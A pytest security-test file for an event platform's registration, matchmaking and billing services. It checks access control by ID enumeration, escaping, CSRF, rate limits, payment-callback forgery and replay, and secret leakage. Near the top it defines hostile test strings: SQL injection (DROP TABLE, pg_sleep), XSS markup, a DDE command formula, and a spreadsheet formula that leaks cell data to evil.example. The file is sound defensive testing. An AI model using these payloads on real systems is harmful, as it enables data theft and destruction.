"""Hostile callers against registration, matchmaking and billing running as processes: a participant
trying every id of another's, injection in every text field, forged cross-site posts, a flood
of public writes, forged, stale and replayed payment callbacks, and a hunt for secrets in logs
and error pages."""
from __future__ import annotations

import csv
import io
import json
import re
import time
import uuid

import pytest
import requests
import sqlalchemy as sa
from pypdf import PdfReader

from services.billing.bootstrap import bootstrap as billing_bootstrap
from services.billing.web.app import create_app as billing_app
from services.registration.manage import create_organiser
from shared.access import CSRF_COOKIE, SESSION_COOKIE
from shared.config import WebSettings, load_settings
from shared.localinfra.gateway_simulator import sign
from shared.localinfra.ports import wait_until
from tests.support.platform import Platform, SignedInPerson, gateway_simulator
from tests.support.registrations import registration_payload

SQL = "Robert'); DROP TABLE registrations; --"
SCRIPT = "<script>alert('xss')</script>"
IMAGE = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
SLEEP = "x' OR pg_sleep(5) IS NULL --"
HOSTILE_TEXT = (SQL, SCRIPT, IMAGE, FORMULA, AT_FORMULA, SLEEP)


def hostile_payload(email: str) -> dict:
    """A registration whose every free-text field carries an attack."""
    payload = registration_payload(email)
    payload["organisation"].update(legal_name=SQL, address=IMAGE, city=SLEEP[:100], capabilities=SCRIPT,
                                   products=FORMULA)
    payload["delegates"][0].update(full_name=SCRIPT, designation=AT_FORMULA)
    return payload


@pytest.fixture
def platform(services, platform_env, signing_keys) -> Platform:
    platform = Platform(services, platform_env, signing_keys)
    platform.migrate("registration", "matchmaking")
    platform.start(webs=("registration", "matchmaking"), workers=("registration", "matchmaking"), threads=4)
    return platform


@pytest.fixture
def two_companies(platform, run_id):
    """Company A (every text hostile) and company B, both approved, each with a meeting request to
    the same officer; the officer's and both companies' ids."""
    hostile = requests.post(platform.url("registration", "/api/v1/registrations"),
                            json=hostile_payload(f"a.{run_id}@alpha.example.in"), timeout=10)
    assert hostile.status_code == 201, hostile.text
    a = hostile.json()
    platform.confirm_emails(a["id"])
    platform.decide(a["id"])
    b = platform.approved_company(f"b.{run_id}@bravo.example.in", name="Bravo Secret Systems Private Limited")
    officer = platform.add_officer(f"officer.{run_id}@navy.example.in")
    platform.wait_in_matchmaking(a["id"], officer)
    platform.wait_in_matchmaking(b["id"])
    platform.set_frame()
    requests_by = {}
    for company, agenda in ((a, SCRIPT + " " + FORMULA), (b, "Bravo's confidential sonar roadmap")):
        answer = requests.post(platform.url("matchmaking", "/api/v1/requests"), headers=platform.delegate(company["id"]),
                               json={"receiver": f"officer:{officer}", "agenda": agenda}, timeout=10)
        assert answer.status_code == 201, answer.text
        requests_by[company["id"]] = answer.json()["id"]
    return a, b, officer, requests_by


def test_a_participant_cannot_reach_another_participants_data_by_any_id(platform, two_companies):
    a, b, officer, requests_by = two_companies
    as_a = platform.delegate(a["id"])
    b_delegate = platform.delegate_ids(b["id"])[0]
    b_ids = [b["id"], b_delegate, requests_by[b["id"]], officer]
    # B's name is no secret (matchmaking recommends companies to each other); its people and plans are.
    secrets_of_b = ("bravo.example.in", "confidential sonar roadmap", b["reference"], b_delegate)

    seen = []
    for service in ("registration", "matchmaking"):
        document = requests.get(platform.url(service, "/api/v1/openapi.json"), timeout=10).json()
        for path, operations in document["paths"].items():
            for method, operation in operations.items():
                names = [p["name"] for p in operation.get("parameters", []) if p["in"] == "path"]
                if not names or operation["x-access"] == "public":
                    continue
                for identifier in b_ids:
                    url = path
                    for name in names:
                        url = url.replace("{" + name + "}", identifier if name != "action" else "pin")
                    answer = requests.request(method, platform.url(service, url), headers=as_a, json={}, timeout=10)
                    seen.append((service, method, url, answer.status_code))
                    assert answer.status_code in (401, 403, 404, 409, 422), (service, method, url, answer.text)
                    assert not any(secret in answer.text for secret in secrets_of_b), (service, method, url)
    assert len(seen) >= 40, "the enumeration reached the routes that take ids"

    for service, path in (("registration", "/api/v1/me"), ("registration", "/me"), ("matchmaking", "/api/v1/me/requests"),
                          ("matchmaking", "/api/v1/me/agenda"), ("matchmaking", "/me"),
                          ("matchmaking", "/api/v1/me/agenda.ics")):
        answer = requests.get(platform.url(service, path), headers=as_a, timeout=10)
        assert answer.status_code == 200, (service, path)
        assert not any(secret in answer.text for secret in secrets_of_b), (service, path)
    # B's delegate and B's request are untouched by A's attempts.
    assert platform.delegate_ids(b["id"]) == [b_delegate]
    mine = requests.get(platform.url("matchmaking", "/api/v1/me/requests"), headers=platform.delegate(b["id"]),
                        timeout=10).json()
    assert [(r["id"], r["status"]) for r in mine["sent"]] == [(requests_by[b["id"]], "pending")]


def test_hostile_text_is_stored_as_typed_and_shown_inert(platform, two_companies):
    a, _b, officer, requests_by = two_companies
    assert platform.count("registration", "SELECT count(*) FROM registrations") == 2, "the table is still there"

    mine = requests.get(platform.url("registration", "/api/v1/me"), headers=platform.delegate(a["id"]), timeout=10)
    assert mine.json()["registration"]["legal_name"] == SQL
    assert mine.json()["delegates"][0]["full_name"] == SCRIPT and mine.json()["delegates"][0]["designation"] == AT_FORMULA

    organiser = platform.organiser("vetting")
    pages = [requests.get(platform.url("registration", "/me"), headers=platform.delegate(a["id"]), timeout=10),
             requests.get(platform.url("registration", f"/admin/registrations/{a['id']}"), headers=organiser,
                          timeout=10),
             requests.get(platform.url("registration", "/admin/registrations"), headers=organiser, timeout=10),
             requests.get(platform.url("matchmaking", "/me"), headers=platform.officer(officer), timeout=10)]
    for page in pages:
        assert page.status_code == 200, page.url
        assert "<script>alert" not in page.text and "<img src=x" not in page.text, page.url
    assert "&lt;script&gt;alert(" in pages[1].text and "&lt;img src=x onerror" in pages[1].text
    assert "&lt;script&gt;alert(" in pages[3].text, "the officer sees the hostile agenda, escaped"

    export = requests.get(platform.url("registration", "/admin/registrations.csv"), headers=organiser, timeout=10)
    cells = [cell for row in csv.reader(io.StringIO(export.text)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], "a spreadsheet would run a formula"
    assert "'" + AT_FORMULA in cells, "the typed text is kept, defused"

    calendar = requests.get(platform.url("matchmaking", "/api/v1/me/agenda.ics"), headers=platform.delegate(a["id"]),
                            timeout=10)
    assert calendar.status_code == 200
    received = requests.get(platform.url("matchmaking", "/api/v1/me/requests"), headers=platform.officer(officer),
                            timeout=10).json()["received"]
    assert {r["agenda"] for r in received if r["id"] == requests_by[a["id"]]} == {SCRIPT + " " + FORMULA}


def test_cross_site_posts_are_refused_for_signed_in_browsers(platform, two_companies):
    a, _b, _officer, requests_by = two_companies
    token = platform.delegate(a["id"])["Authorization"].split()[1]
    browser = requests.Session()
    browser.cookies.set(SESSION_COOKIE, token)
    browser.get(platform.url("registration", "/me"), timeout=10)  # the page sets the CSRF cookie
    assert CSRF_COOKIE in browser.cookies

    attempts = [
        browser.post(platform.url("matchmaking", f"/api/v1/requests/{requests_by[a['id']]}/cancel"), json={},
                     timeout=10),
        browser.post(platform.url("matchmaking", f"/api/v1/requests/{requests_by[a['id']]}/cancel"), json={},
                     headers={"X-CSRF-Token": "forged"}, timeout=10),
        browser.post(platform.url("registration", "/api/v1/me/cancel"), json={}, timeout=10),
        browser.post(platform.url("registration", "/me/cancel"), data={}, timeout=10),
        requests.post(platform.url("registration", "/access"), data={"email": "a@b.in"}, timeout=10),
    ]
    assert [a.status_code for a in attempts] == [403] * 5
    assert all("csrf_failed" in a.text or "came from elsewhere" in a.text for a in attempts)
    status = requests.get(platform.url("registration", f"/api/v1/registrations/{a['id']}/status"), timeout=10)
    assert status.json()["status"] == "approved", "nothing was cancelled"
    honest = SignedInPerson()
    honest.cookies.update(browser.cookies)
    assert honest.post(platform.url("matchmaking", f"/api/v1/requests/{requests_by[a['id']]}/cancel"),
                       json={}).status_code == 200, "the same post with the CSRF token goes through"


def test_public_writes_are_rate_limited_per_address(services, platform_env, signing_keys, run_id):
    platform = Platform(services, platform_env, signing_keys)
    platform.migrate("registration")
    url = services.web("registration", extra_env={"PUBLIC_WRITE_RATE_LIMIT": "5/minute"})
    answers = [requests.post(f"{url}/api/v1/registrations", json=registration_payload(f"r{i}.{run_id}@flood.in"),
                             timeout=10) for i in range(7)]
    guesses = [requests.post(f"{url}/api/v1/auth/token", json={"email": "admin@dpd.in", "password": f"guess{i}"},
                             timeout=10) for i in range(3)]
    assert [a.status_code for a in answers] == [201] * 5 + [429] * 2
    assert int(answers[-1].headers["Retry-After"]) > 0 and answers[-1].json()["error"] == "too_many_requests"
    assert [g.status_code for g in guesses] == [429] * 3, "password guessing counts against the same limit"
    assert platform.count("registration", "SELECT count(*) FROM registrations") == 5


def test_secrets_never_appear_in_logs_or_error_pages(platform, two_companies, services, platform_env, signing_keys,
                                                     run_id, tmp_path):
    a, _b, _officer, _requests = two_companies
    password = "correct horse battery staple 42"
    create_organiser(["--email", f"admin.{run_id}@dpd.in", "--name", "Asha Admin", "--roles", "admin"],
                     {**platform_env, "DPD_ORGANISER_PASSWORD": password})
    signed_in = requests.post(platform.url("registration", "/api/v1/auth/token"),
                              json={"email": f"admin.{run_id}@dpd.in", "password": password}, timeout=10)
    api_token = signed_in.json()["token"]
    participant_token = platform.delegate(a["id"])["Authorization"].split()[1]
    error_pages = [
        requests.post(platform.url("registration", "/api/v1/auth/token"),
                      json={"email": f"admin.{run_id}@dpd.in", "password": password + "x"}, timeout=10),
        requests.get(platform.url("registration", "/admin/registrations"),
                     headers={"Authorization": f"Bearer {api_token[:-3]}xyz", "Accept": "text/html"},
                     allow_redirects=False, timeout=10),
        requests.get(platform.url("registration", "/no-such-page"), headers={"Accept": "text/html"}, timeout=10),
        requests.post(platform.url("registration", "/api/v1/registrations"), json={"edition": password}, timeout=10),
        requests.get(platform.url("matchmaking", "/api/v1/me/agenda"),
                     headers={"Authorization": f"Bearer {participant_token}x"}, timeout=10),
        requests.post(platform.url("registration", "/admin/sign-in"), data={"email": "x", "password": password},
                      timeout=10),
    ]
    assert [p.status_code for p in error_pages] == [401, 302, 404, 422, 401, 403]

    private_key = signing_keys[0].read_text()
    secrets = {
        "organiser password": password,
        "API token": api_token,
        "participant token": participant_token,
        "WEB_SECRET_KEY": platform_env["WEB_SECRET_KEY"],
        "PERSONAL_DATA_KEY": platform_env["PERSONAL_DATA_KEY"],
        "BADGE_SIGNING_SECRET": platform_env["BADGE_SIGNING_SECRET"],
        "signing key": "".join(private_key.strip().splitlines()[1:-1])[:40],
        "identity document": "Z1234567",
        "database password": platform_env["REGISTRATION_DATABASE_URL"].split(":")[2].split("@")[0],
    }
    services.stop_all()  # flush and close every log
    logs = {path.name: path.read_text(errors="replace") for path in tmp_path.glob("*.log")}
    assert len(logs) >= 4
    for name, secret in secrets.items():
        for log_name, text in logs.items():
            assert secret not in text, f"{name} appears in {log_name}"
        for page in error_pages:
            assert secret not in page.text, f"{name} appears in the answer to {page.request.method} {page.url}"
    assert any(json.loads(line).get("message") for text in logs.values() for line in text.splitlines()
               if line.startswith("{")), "the logs were read (structured lines)"


# --- billing --------------------------------------------------------------------------------------

BOOTH_NUMBER = '"><svg onload=1>'  # as long as a booth number may be
HALL = "<script>alert(1)</script>"
TRANSFER_REFERENCE = '<img src=x onerror=alert("utr")>'
RAW_MARKUP = ("<script>alert", "<img src=x", "<svg onload")


class Market:
    """Registration and billing as processes beside the gateway simulator: company A (legal name
    and address hostile) and company B approved and buying; finance's catalogue hostile too."""

    def __init__(self, platform: Platform, gateway, run_id: str):
        self.platform, self.gateway = platform, gateway
        payload = registration_payload(f"a.{run_id}@alpha.example.in")
        payload["organisation"].update(legal_name=SCRIPT + " Aero", address=IMAGE)
        a = platform.http.post(platform.url("registration", "/api/v1/registrations"), json=payload, timeout=10)
        assert a.status_code == 201, a.text
        self.a = a.json()["id"]
        platform.confirm_emails(self.a)
        platform.decide(self.a)
        self.b = platform.approved_company(f"b.{run_id}@bravo.example.in", name="Bravo Secret Systems Private Limited")["id"]
        wait_until(lambda: platform.count("billing", "SELECT count(*) FROM buyers WHERE approved AND registration_id "
                                                     "IN (:a, :b)", a=self.a, b=self.b) == 2,
                   60, message="billing never heard of the approved companies")
        self.finance = platform.organiser("finance")
        self.items = self._open_sales(platform.edition_id())

    def _open_sales(self, edition_id: str) -> dict[str, str]:
        """The tier named with a script, described with SQL; a booth whose hall and number are markup."""
        saved = self.api("PUT", f"/api/v1/editions/{edition_id}", self.finance,
                         json={"name": "Defence Partnership Days 2026", "venue_state": "DL"})
        assert saved.status_code == 200, saved.text
        items = {
            "tier": {"kind": "sponsorship", "name": SCRIPT + " Gold", "description": SQL,
                     "unit_price_paise": 2_00_000_00, "quantity": 5, "matchmaking_priority": 5},
            "hostile booth": {"kind": "booth", "name": IMAGE, "unit_price_paise": 1_50_000_00, "quantity": 1,
                              "booth": {"hall": HALL, "booth_number": BOOTH_NUMBER, "x_m": "0", "y_m": "0",
                                        "width_m": "6", "depth_m": "6"}},
            "booth": {"kind": "booth", "name": "B-1", "unit_price_paise": 1_00_000_00, "quantity": 1,
                      "booth": {"hall": "Hall B", "booth_number": "B-1", "x_m": "0", "y_m": "0", "width_m": "3",
                                "depth_m": "3"}},
        }
        ids = {}
        for label, item in items.items():
            added = self.api("POST", f"/api/v1/editions/{edition_id}/items", self.finance, json=item)
            assert added.status_code == 201, added.text
            ids[label] = added.json()["id"]
        return ids

    def api(self, method: str, path: str, headers: dict, **kwargs) -> requests.Response:
        return requests.request(method, self.platform.url("billing", path), headers=headers, timeout=15, **kwargs)

    def order(self, company: str, *labels: str, method: str = "gateway") -> dict:
        placed = self.api("POST", "/api/v1/me/orders", self.platform.delegate(company),
                          json={"lines": [{"item_id": self.items[label]} for label in labels], "payment_method": method})
        assert placed.status_code == 201, placed.text
        return placed.json()

    def checkout(self, company: str, order_id: str) -> dict:
        """The gateway's checkout form for the order: its `fields` name the gateway's order."""
        form = self.api("POST", f"/api/v1/me/orders/{order_id}/checkout", self.platform.delegate(company))
        assert form.status_code == 200, form.text
        return form.json()["fields"]

    def pay_and_return(self, company: str, order_id: str) -> None:
        """The buyer pays on the gateway's page and their browser comes back: the order is paid."""
        fields = self.checkout(company, order_id)
        back = requests.post(fields["callback_url"], data=self.gateway.pay(fields["order_id"]), allow_redirects=False,
                             timeout=15)
        assert back.status_code == 303, back.text
        assert self.status(order_id) == "paid"

    def status(self, order_id: str) -> str:
        return self.value("SELECT status FROM orders WHERE id = :id", id=order_id)

    def value(self, sql: str, **params):
        with self.platform.engine("billing").connect() as db:
            return db.execute(sa.text(sql), params).scalar()

    def billing_logs(self, log_dir) -> str:
        return "".join(path.read_text(errors="replace") for path in log_dir.glob("billing-*.log"))


@pytest.fixture
def market(services, platform_env, signing_keys, run_id) -> Market:
    with gateway_simulator(platform_env) as gateway:
        platform = Platform(services, platform_env, signing_keys)
        platform.migrate("registration", "billing")
        platform.start(webs=("registration", "billing"), workers=("registration", "billing"), threads=4,
                       extra_env={"RAZORPAY_API_URL": gateway.url})
        yield Market(platform, gateway, run_id)
        services.stop_all()  # before the gateway goes: nothing is left calling it


def test_forged_stale_and_replayed_gateway_callbacks_change_nothing_and_secrets_stay_out_of_sight(
        market, platform_env, tmp_path):
    order = market.order(market.a, "tier")
    fields = market.checkout(market.a, order["id"])
    market.gateway.hold_webhooks()
    market.gateway.pay(fields["order_id"])  # paid; the buyer closes the tab: only the callbacks tell billing
    captured = next(w for w in market.gateway.take_held_webhooks() if w.event == "payment.captured")
    stale_body = json.loads(captured.body) | {"created_at": int(time.time()) - 8 * 86400}
    stale = json.dumps(stale_body).encode()

    forged = market.gateway.deliver_now(captured.body, event_id=captured.event_id,
                                        signature=sign("a guessed secret", captured.body))
    too_old = market.gateway.deliver_now(stale, event_id=captured.event_id)  # genuinely signed, but a week old

    assert [forged[0], too_old[0]] == [400, 400]
    assert forged[1]["error"] == too_old[1]["error"] == "callback_refused"
    assert "signature" in forged[1]["message"] and "too old" in too_old[1]["message"]
    assert market.status(order["id"]) == "held"
    for table in ("payments", "gateway_callbacks", "payment_flags", "invoices"):
        assert market.value(f"SELECT count(*) FROM {table}") == 0, f"a refused callback left a trace in {table}"
    wait_until(lambda: market.billing_logs(tmp_path).count("refused a razorpay callback") >= 2, 10,
               message="the refusals are not in billing's log")
    refusals = [json.loads(line)["message"] for line in market.billing_logs(tmp_path).splitlines()
                if "refused a razorpay callback" in line]
    assert any("signature does not match" in line for line in refusals)
    assert any("too old to trust" in line for line in refusals)

    genuine = market.gateway.deliver_now(captured.body, event_id=captured.event_id, signature=captured.signature)
    replayed = market.gateway.deliver_now(captured.body, event_id=captured.event_id, signature=captured.signature)
    renamed = market.gateway.deliver_now(captured.body, signature=captured.signature)  # the id is not signed

    assert (genuine, replayed, renamed[0]) == ((200, {"event_id": captured.event_id, "outcome": "applied"}),
                                               (200, {"event_id": captured.event_id, "outcome": "duplicate"}), 200)
    assert market.status(order["id"]) == "paid"
    assert market.value("SELECT count(*) FROM payments WHERE order_id = :id", id=order["id"]) == 1
    assert market.value("SELECT count(*) FROM invoices WHERE order_id = :id", id=order["id"]) == 1
    for event in ("billing.order_paid.v1", "billing.invoice_issued.v1", "billing.sponsorship_confirmed.v1"):
        assert market.value("SELECT count(*) FROM outbox_events WHERE event_type = :type", type=event) == 1, event
    assert market.value("SELECT count(*) FROM gateway_callbacks WHERE event_id = :id", id=captured.event_id) == 1

    error_pages = [forged[1], too_old[1]] + [answer.text for answer in (
        market.api("GET", "/no-such-page", {"Accept": "text/html"}),
        market.api("POST", "/api/v1/me/orders", market.platform.delegate(market.a), json={"lines": "all of it"}),
        market.api("POST", "/api/v1/gateway/razorpay/webhook", {"X-Razorpay-Signature": "0" * 64}, data=b"not json"),
        requests.post(fields["callback_url"], data={"razorpay_order_id": fields["order_id"],
                                                    "razorpay_payment_id": "pay_x", "razorpay_signature": "0" * 64},
                      timeout=10),
        market.api("GET", f"/documents/invoices/{uuid.uuid4()}.pdf?expires=1&signature=x", {}),
    )]
    secrets = {name: platform_env[name] for name in ("RAZORPAY_WEBHOOK_SECRET", "RAZORPAY_KEY_SECRET",
                                                     "BILLING_DOCUMENT_LINK_SECRET", "WEB_SECRET_KEY")}
    secrets["database password"] = platform_env["BILLING_DATABASE_URL"].split(":")[2].split("@")[0]
    secrets["participant token"] = market.platform.delegate(market.a)["Authorization"].split()[1]
    market.platform.services.stop_all()  # flush and close every log
    logs = market.billing_logs(tmp_path)
    assert "refused a razorpay callback" in logs
    answers = [json.dumps(page) if isinstance(page, dict) else page for page in error_pages]
    for name, secret in secrets.items():
        assert secret not in logs, f"{name} appears in billing's logs"
        assert not [answer for answer in answers if secret in answer], f"{name} appears in an error answer"


def billing_routes_taking_ids(env: dict) -> list[tuple[str, str]]:
    """(method, path template) of every billing route with an id in its path, from billing's own app."""
    wiring = billing_bootstrap(env)
    try:
        rules = billing_app(wiring, load_settings(WebSettings, env)).url_map.iter_rules()
        return [(method, rule.rule) for rule in rules if "<uuid:" in rule.rule
                for method in sorted(rule.methods - {"HEAD", "OPTIONS"})]
    finally:
        wiring.engine.dispose()


def test_a_buyer_cannot_reach_another_buyers_orders_payments_or_documents_by_any_id(market, platform_env):
    mine = market.order(market.a, "tier")
    theirs = market.order(market.b, "booth")
    market.pay_and_return(market.b, theirs["id"])
    refund = market.api("POST", f"/api/v1/orders/{theirs['id']}/refunds", market.finance,
                        json={"amount_paise": 10_000_00, "reason": "A smaller booth"})
    assert refund.status_code == 201, refund.text
    wait_until(lambda: market.value("SELECT count(*) FROM credit_notes WHERE order_id = :id", id=theirs["id"]) == 1,
               30, message="the refund was never credited")
    with market.platform.engine("billing").connect() as db:
        b = db.execute(sa.text("""
            SELECT o.number, p.id AS payment_id, p.gateway_payment_id, i.id AS invoice_id, i.number AS invoice_number,
                   c.id AS credit_note_id, c.number AS credit_note_number, c.refund_id, b.contact_email
            FROM orders o JOIN payments p ON p.id = o.paid_by_payment_id JOIN buyers b USING (registration_id)
            JOIN invoices i ON i.order_id = o.id AND i.kind = 'tax_invoice' JOIN credit_notes c ON c.order_id = o.id
            WHERE o.id = :id"""), {"id": theirs["id"]}).one()
    b_ids = [str(identifier) for identifier in (theirs["id"], b.payment_id, b.invoice_id, b.credit_note_id,
                                                b.refund_id, market.b)]
    secrets_of_b = (b.number, b.gateway_payment_id, b.invoice_number, b.credit_note_number, b.contact_email)
    as_a = market.platform.delegate(market.a)

    seen = []
    for method, template in billing_routes_taking_ids(platform_env):
        for identifier in b_ids:
            for kind in ("invoices", "credit-notes") if "<kind>" in template else ("",):
                for extension in ("pdf", "html") if "<extension>" in template else ("",):
                    path = re.sub(r"<uuid:[^>]+>", identifier, template).replace("<kind>", kind) \
                        .replace("<extension>", extension).replace("<name>", "razorpay")
                    answer = requests.request(method, market.platform.url("billing", path), headers=as_a, json={},
                                              allow_redirects=False, timeout=15)
                    seen.append((method, path, answer.status_code))
                    assert answer.status_code in (303, 401, 403, 404, 409, 422) or (
                        answer.status_code == 302 and method == "POST"), (method, path, answer.text[:500])
                    assert not [secret for secret in secrets_of_b if secret in answer.text], (method, path)
    assert len(seen) >= 80, "the enumeration reached the routes that take ids"

    for path in ("/api/v1/me/orders", "/api/v1/me/invoices", "/me/orders", "/me/invoices", "/me/shop",
                 f"/api/v1/me/orders/{mine['id']}"):
        answer = market.api("GET", path, as_a)
        assert answer.status_code == 200, (path, answer.text[:500])
        assert not [secret for secret in secrets_of_b if secret in answer.text], path
    assert market.status(theirs["id"]) == "paid", "B's order is untouched by A's attempts"
    assert market.value("SELECT count(*) FROM refunds WHERE order_id = :id", id=theirs["id"]) == 1
    assert market.value("SELECT count(*) FROM payments WHERE order_id = :id", id=theirs["id"]) == 1
    assert market.status(mine["id"]) == "held"
    signed = market.api("GET", f"/documents/invoices/{b.invoice_id}.pdf", {})
    assert signed.status_code == 403, "a document's public link needs its signature"


def test_hostile_text_in_billing_is_stored_as_typed_and_shown_inert_and_cross_site_posts_are_refused(market):
    order = market.order(market.a, "hostile booth", "tier", method="bank_transfer")
    paid = market.api("POST", f"/api/v1/orders/{order['id']}/bank-transfers", market.finance,
                      json={"reference": TRANSFER_REFERENCE, "amount_paise": order["payable_paise"]})
    assert paid.status_code == 201, paid.text
    refunded = market.api("POST", f"/api/v1/orders/{order['id']}/refunds", market.finance,
                          json={"amount_paise": 1_000_00, "reason": SCRIPT, "reference": "UTR" + SLEEP[:20]})
    assert refunded.status_code == 201 and refunded.json()["status"] == "processed", refunded.text
    assert market.value("SELECT count(*) FROM orders") == 1, "the table is still there"
    with market.platform.engine("billing").connect() as db:
        stored = db.execute(sa.text("SELECT b.legal_name, b.address, i.id AS invoice_id, c.id AS credit_note_id "
                                    "FROM buyers b JOIN invoices i USING (registration_id) "
                                    "JOIN credit_notes c ON c.invoice_id = i.id "
                                    "WHERE i.kind = 'tax_invoice' AND i.order_id = :id"), {"id": order["id"]}).one()
    assert (stored.legal_name, stored.address) == (SCRIPT + " Aero", IMAGE)
    mine = market.api("GET", f"/api/v1/me/orders/{order['id']}", market.platform.delegate(market.a)).json()
    assert mine["buyer"]["legal_name"] == SCRIPT + " Aero"
    assert any(SCRIPT in line["description"] for line in mine["lines"])
    assert [p["reference"] for p in mine["payments"]] == [TRANSFER_REFERENCE]

    finance, buyer = market.finance, market.platform.delegate(market.a)
    pages = {path: market.api("GET", path, headers) for path, headers in (
        ("/admin/floor-plan", finance), ("/admin/catalogue", finance), ("/admin/orders", finance),
        (f"/admin/orders/{order['id']}", finance), ("/admin/payments", finance), ("/admin/refunds", finance),
        ("/admin/invoices", finance), (f"/admin/invoices/{stored.invoice_id}.html", finance),
        (f"/admin/catalogue/items/{market.items['hostile booth']}", finance), ("/admin/", finance),
        ("/me/shop", buyer), ("/me/orders", buyer), (f"/me/orders/{order['id']}", buyer), ("/me/invoices", buyer),
        (f"/me/invoices/{stored.invoice_id}.html", buyer), (f"/me/credit-notes/{stored.credit_note_id}.html", buyer))}
    for path, page in pages.items():
        assert page.status_code == 200, (path, page.text[:500])
        assert not [raw for raw in RAW_MARKUP if raw in page.text], f"live markup on {path}"
    assert "&lt;svg onload=1&gt;" in pages["/admin/floor-plan"].text, "the floor plan shows the booth, escaped"
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in pages["/admin/floor-plan"].text, "and its hall"
    assert "&lt;script&gt;alert(" in pages[f"/admin/orders/{order['id']}"].text
    assert "&lt;img src=x onerror=alert(" in pages[f"/admin/invoices/{stored.invoice_id}.html"].text
    assert "&lt;svg onload=1&gt;" in pages["/me/shop"].text
    assert "Reason: &lt;script&gt;alert(" in pages[f"/me/credit-notes/{stored.credit_note_id}.html"].text

    pdf = market.api("GET", f"/me/invoices/{stored.invoice_id}.pdf", buyer)
    assert pdf.status_code == 200 and pdf.headers["Content-Type"] == "application/pdf"
    assert b"/JavaScript" not in pdf.content and b"/JS " not in pdf.content and b"/Launch" not in pdf.content
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf.content)).pages)
    squeezed = " ".join(text.split())
    for typed in (SCRIPT, IMAGE, TRANSFER_REFERENCE):
        assert typed in squeezed, f"the invoice prints {typed!r} as typed"

    export = market.api("GET", "/admin/orders.csv", finance)
    cells = [cell for row in csv.reader(io.StringIO(export.text)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], "a spreadsheet would run a formula"

    refuses_cross_site_posts(market)


def refuses_cross_site_posts(market: Market) -> None:
    """A buyer's and a finance officer's signed-in browsers: a form or script from another site
    (no CSRF token, or a made-up one) changes nothing."""
    order = market.order(market.a, "booth")
    buyer, finance = requests.Session(), requests.Session()
    buyer.cookies.set(SESSION_COOKIE, market.platform.delegate(market.a)["Authorization"].split()[1])
    finance.cookies.set(SESSION_COOKIE, market.finance["Authorization"].split()[1])
    buyer.get(market.platform.url("billing", "/me/shop"), timeout=10)
    finance.get(market.platform.url("billing", "/admin/orders"), timeout=10)
    assert CSRF_COOKIE in buyer.cookies and CSRF_COOKIE in finance.cookies
    edition = market.platform.edition_id()

    def post(session, path, **kwargs):
        return session.post(market.platform.url("billing", path), allow_redirects=False, timeout=10, **kwargs)

    attempts = [
        post(buyer, "/me/orders", data={"booth": market.items["hostile booth"], "payment_method": "gateway"}),
        post(buyer, f"/me/orders/{order['id']}/cancel", data={}),
        post(buyer, f"/me/orders/{order['id']}/pay", data={}, headers={"X-CSRF-Token": "forged"}),
        post(buyer, "/api/v1/me/orders", json={"lines": [{"item_id": market.items["tier"]}]}),
        post(buyer, f"/api/v1/me/orders/{order['id']}/cancel", json={}),
        post(finance, f"/admin/catalogue/{edition}/items", data={"kind": "branding", "name": "Lanyards"}),
        post(finance, f"/admin/orders/{order['id']}/bank-transfer", data={"reference": "UTR12345", "amount": "1"}),
        post(finance, "/api/v1/orders/{}/bank-transfers".format(order["id"]),
             json={"reference": "UTR12345", "amount_paise": order["payable_paise"]}),
    ]
    assert [a.status_code for a in attempts] == [403] * len(attempts)
    assert all("csrf_failed" in a.text or "came from elsewhere" in a.text for a in attempts)
    assert market.status(order["id"]) == "held" and market.value("SELECT count(*) FROM orders") == 2
    assert market.value("SELECT count(*) FROM catalogue_items") == 3 and market.value(
        "SELECT count(*) FROM payments WHERE order_id = :id", id=order["id"]) == 0, "nothing was changed"
    honest = SignedInPerson()
    honest.cookies.update(buyer.cookies)
    assert honest.post(market.platform.url("billing", f"/api/v1/me/orders/{order['id']}/cancel"),
                       json={}).status_code == 200, "the same post with the CSRF token goes through"
